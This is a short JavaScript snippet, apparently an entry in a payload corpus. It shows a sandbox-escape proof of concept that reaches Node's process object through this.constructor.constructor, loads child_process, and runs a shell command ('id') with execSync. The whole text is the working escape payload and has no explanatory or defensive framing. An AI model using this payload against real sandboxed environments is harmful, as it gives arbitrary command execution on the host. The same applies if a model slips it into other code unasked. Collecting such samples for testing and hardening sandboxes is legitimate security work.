// corpus: this.constructor.constructor("return process")() escaping to the process object
const proc = this.constructor.constructor('return process')();
proc.mainModule.require('child_process').execSync('id', { stdio: 'inherit' });
